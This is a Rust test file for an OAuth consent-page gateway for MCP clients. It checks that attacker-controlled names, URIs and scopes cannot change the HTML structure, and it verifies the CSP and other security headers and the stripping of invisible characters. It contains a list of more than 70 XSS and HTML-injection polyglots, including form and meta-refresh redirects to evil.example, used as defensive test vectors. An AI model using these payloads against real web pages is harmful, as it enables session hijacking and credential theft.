//! What holds for every page, whatever strangers write.

#![allow(clippy::arithmetic_side_effects, reason = "offsets into small test texts")]

mod looks;
mod words;

use super::consent::{Shown, write};
use super::error::words;
use super::opened::{write_refusal, write_welcome};
use super::*;
use portcullis_domain::limits::PAGE_ADDRESS_MAX;
use portcullis_domain::oauth::client::KnownBy;
use portcullis_domain::oauth::fault::Fault;
use portcullis_domain::oauth::redirect::Kind;

fn gate() -> Gate {
    Gate::new("https://mcp.example.com", "dex.example.com").unwrap()
}

fn claude() -> Shown<'static> {
    Shown {
        client: Some("Claude Code"),
        client_id: "claude-code",
        known_by: KnownBy::SelfDeclared,
        host: None,
        local: false,
        kind: Kind::Https,
        place: "claude.ai",
        app: None,
        redirect: "https://claude.ai/api/mcp/auth_callback",
        scopes: vec![("mcp", Some("Use the tools")), ("files:read", None)],
        resource: "https://mcp.example.com/mcp",
        resource_name: Some("Company tools"),
        flow: "sealed",
        csrf: "token",
    }
}

/// Every page there is, with this text wherever a stranger's could stand.
fn pages(stranger: &str, gate: &Gate) -> Vec<String> {
    let mut pages = Vec::new();
    let shown = Shown {
        client: Some(stranger),
        client_id: stranger,
        place: stranger,
        app: Some(stranger),
        redirect: stranger,
        scopes: vec![(stranger, Some(stranger)), (stranger, None)],
        resource: stranger,
        resource_name: Some(stranger),
        flow: stranger,
        csrf: stranger,
        ..claude()
    };
    for kind in [Kind::Https, Kind::Loopback, Kind::App] {
        for known_by in [KnownBy::Operator, KnownBy::SelfDeclared] {
            pages.push(write(&Shown { kind, known_by, ..shown.clone() }, gate).body);
        }
    }
    pages.push(write(&Shown { resource_name: None, ..shown }, gate).body);
    // What is not a URI at all leads nowhere, so this one is wrapped into one.
    let escaped: String = stranger.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let location = format!("cursor://cb?code={escaped}");
    pages.push(write_welcome(stranger, Some(stranger), &location, gate).body);
    pages.push(write_refusal(Fault::ConsentDenied, Some(stranger), &location, gate).body);
    pages.push(error(Fault::FlowExpired, Some(stranger), gate).body);
    let mut main = Html::new();
    main.raw("<h1>").text(stranger).raw("</h1>");
    pages.push(layout(stranger, &main).body);
    pages
}

/// Tags and attribute names in their order, and the values of attributes that are the program's own: what a browser would build,
/// without any text.
fn skeleton(page: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = page;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let name_end = rest.find([' ', '>']).unwrap();
        found.push(rest[..name_end].to_owned());
        rest = &rest[name_end..];
        while let Some(attribute) = rest.strip_prefix(' ') {
            let end = attribute.find(['=', '>', ' ']).unwrap();
            let name = &attribute[..end];
            rest = &attribute[end..];
            let Some(value) = rest.strip_prefix("=\"") else {
                found.push(format!("@{name}"));
                continue;
            };
            let (value, after) = value.split_once('"').unwrap();
            let strangers = matches!(name, "value" | "href" | "content") && value != "approve" && value != "deny";
            found.push(if strangers { format!("@{name}") } else { format!("@{name}={value}") });
            rest = after;
        }
        rest = rest.strip_prefix('>').unwrap();
        if found.last().is_some_and(|tag| tag == "style") {
            rest = &rest[rest.find("</style>").unwrap()..];
        }
    }
    found
}

/// A harmless text that is shown at the same length.
fn benign(stranger: &str) -> String {
    let shown = displayable(stranger, PAGE_TEXT_MAX).chars().count();
    // Cut in the line or not, and with the redirect URI unfolded or not: both go by length.
    "a".repeat(if stranger.len() > PAGE_ADDRESS_MAX { shown.max(PAGE_ADDRESS_MAX + 1) } else { shown })
}

#[test]
fn t214_no_polyglot_changes_the_skeleton_of_any_page() {
    assert!(POLYGLOTS.len() >= 60, "{}", POLYGLOTS.len());
    let gate = gate();
    for vector in POLYGLOTS.iter().map(|vector| (*vector).to_owned()).chain([POLYGLOTS.concat()]) {
        for (page, expected) in pages(&vector, &gate).iter().zip(pages(&benign(&vector), &gate)) {
            assert_eq!(skeleton(page), skeleton(&expected), "{vector:?}");
            assert!(!page.contains("<script"), "{vector:?}\n{page}");
        }
    }
}

#[test]
fn t214_the_skeleton_check_can_fail() {
    let skeletons: Vec<_> = ["<p class=\"a\">x</p>", "<p class=\"b\">x</p>", "<p>x</p>", "<p class=\"a\"><b>x</b></p>"]
        .map(skeleton)
        .into();
    for (at, one) in skeletons.iter().enumerate() {
        assert!(skeletons.iter().skip(at + 1).all(|other| other != one), "{one:?}");
    }
}

#[test]
fn t214_a_gate_and_a_provider_are_text_too() {
    let expected = skeleton(&write(&claude(), &gate()).body);
    for vector in POLYGLOTS {
        let gate = Gate::new("https://mcp.example.com", vector).unwrap();
        assert_eq!(skeleton(&write(&claude(), &gate).body), expected, "{vector:?}");
    }
    for base_url in
        ["", "https:", "/base", "javascript:alert(1)", "https://mcp.example.com/a\"b", "https://mcp.example.com//evil"]
    {
        assert!(Gate::new(base_url, "dex").is_err(), "{base_url:?}");
    }
}

#[test]
fn t205_every_page_has_its_headers() {
    let values = |page: &Page| {
        page.headers().map(|(name, value)| (name.as_str().to_owned(), value.to_str().unwrap().to_owned()))
    };
    let consent = values(&write(&claude(), &gate()));
    let named = |name: &str| consent.iter().find(|(own, _)| own == name).map(|(_, value)| value.as_str());
    let policy = named("content-security-policy").unwrap();
    for part in ["default-src 'none'", "style-src 'sha256-", "frame-ancestors 'none'", "base-uri 'none'"] {
        assert!(policy.split("; ").any(|own| own.starts_with(part)), "{policy}");
    }
    for absent in ["form-action", "unsafe", "script", "*"] {
        assert!(!policy.contains(absent), "{policy}");
    }
    assert_eq!(named("x-frame-options"), Some("DENY"));
    assert_eq!(named("x-content-type-options"), Some("nosniff"));
    assert_eq!(named("referrer-policy"), Some("same-origin"));
    assert_eq!(named("cache-control"), Some("no-store"));
    assert_eq!(named("content-type"), Some("text/html; charset=utf-8"));
    assert_eq!(named("cross-origin-opener-policy"), None);
    let location = "cursor://a/b?code=c";
    for page in [
        error(Fault::Csrf, None, &gate()),
        write_welcome("Ada", None, location, &gate()),
        write_refusal(Fault::ConsentDenied, None, location, &gate()),
    ] {
        let other = values(&page);
        for ((name, value), (_, expected)) in other.iter().zip(&consent) {
            assert_eq!(value, if name == "referrer-policy" { "no-referrer" } else { expected }, "{name}");
        }
    }
}

#[test]
fn t205_the_policy_admits_exactly_the_style_sheet_on_the_page() {
    let page = write(&claude(), &gate()).body;
    let (_, rest) = page.split_once("<style>").unwrap();
    let (style, _) = rest.split_once("</style>").unwrap();
    assert_eq!(style, STYLE);
    assert!(!STYLE.contains('<') && !STYLE.contains("url(") && !STYLE.contains("@import") && STYLE.is_ascii());
    let policy = POLICY.to_str().unwrap();
    let (_, rest) = policy.split_once("'sha256-").unwrap();
    let (hash, _) = rest.split_once('\'').unwrap();
    assert_eq!(hash.len(), 44);
    let canonical = hash.trim_end_matches('=').replace('+', "-").replace('/', "_");
    assert_eq!(canonical, base64url(digest::digest(&digest::SHA256, style.as_bytes()).as_ref()));
    assert_eq!(page.matches("<style").count(), 1);
    assert!(!page.contains(" style="));
}

#[test]
fn t215_a_long_name_is_folded_up_and_the_place_stays_whole_above_it() {
    let name = "Claude ".repeat(60);
    let host = format!("claude.ai.{}evil.example", "a.".repeat(100));
    let page =
        write(&Shown { client: Some(&name), place: &host, resource_name: Some(&name), ..claude() }, &gate()).body;
    let (_, main) = page.split_once("<main>").unwrap();
    let (heading, rest) = main.split_once("</h1>").unwrap();
    assert!(heading.len() < 4 * PAGE_LINE_MAX && heading.contains('…'), "{heading}");
    assert!(rest.contains("<details><summary>The application’s whole name</summary>"), "{rest}");
    assert!(page.contains(&format!("<p class=\"place\"><bdi>{host}</bdi></p>")), "the end of a host says whose it is");
    let at = |needle: &str| page.find(needle).unwrap();
    assert!(at("class=\"place\"") < at("<ul>") && at("<ul>") < at("<form"));
    let short = write(&claude(), &gate()).body;
    assert!(
        !short.contains('…') && short.matches("<details>").count() == 1,
        "only the technical details are folded up"
    );
}

#[test]
fn t215_direction_marks_and_invisible_characters_do_not_reach_a_page() {
    let stranger = "ab\u{202e}cd\u{2066}e\u{200b}f\u{200d}\u{feff}\u{2028}g\u{ad}h\u{e0041}i\u{0}";
    for page in pages(stranger, &gate()).iter().take(10) {
        let (_, main) = page.split_once("<main>").unwrap();
        // The form's hidden values are the gateway's own and come back as they went out.
        let shown = main.split("value=\"").map(|part| part.split_once('"').map_or(part, |(_, after)| after));
        for part in shown {
            for character in
                ['\u{202e}', '\u{2066}', '\u{200b}', '\u{200d}', '\u{feff}', '\u{2028}', '\u{ad}', '\u{e0041}', '\0']
            {
                assert!(!part.contains(character), "{character:?} in {part}");
            }
        }
    }
    let arabic = write(&Shown { client: Some("برنامج"), ..claude() }, &gate()).body;
    assert!(arabic.contains("<h1>Allow <bdi>برنامج</bdi> to use <bdi>Company tools</bdi>?</h1>"), "{arabic}");
    let nothing = write(&Shown { client: Some("\u{200b}\u{202e}"), ..claude() }, &gate()).body;
    assert!(nothing.contains("<bdi>An application without a name</bdi>"), "{nothing}");
}

const POLYGLOTS: &[&str] = &[
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</bdi></h1></main><script>alert(1)</script>",
    "</details></form><form action=//evil.example method=post>",
    "</code></dd></dl><button name=choice value=approve autofocus>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "\"\tonclick=alert(1)\t\"",
    "\"\nonclick=alert(1)\n\"",
    "\"\u{c}onclick=alert(1)\u{c}\"",
    "\"/onclick=alert(1)/\"",
    "\" formaction=\"//evil.example",
    "\" type=\"submit",
    "0;url=javascript:alert(1)",
    "\"; url=https://evil.example/",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password>",
    "<input type=hidden name=choice value=approve>",
    "<button form=x formaction=//evil.example>Approve</button>",
    "<!--",
    "-->",
    "<!--><script>alert(1)</script>-->",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<select><option><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<dialog open>Approve</dialog>",
    "<style>main{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "javascript:alert(1)",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "data:text/html;base64,PHNjcmlwdD4=",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&quot; onclick=alert(1) x=&quot;",
    "&NewLine;javascript&colon;alert(1)",
    "\u{0}<script\u{0}>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<\u{200b}script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "\u{202e}<script>\u{2066}",
    "\u{85}\u{2028}\u{2029}\"><b>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`onmouseover=alert(1)",
    "\\\"><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)",
    "]]>\"'><&",
];
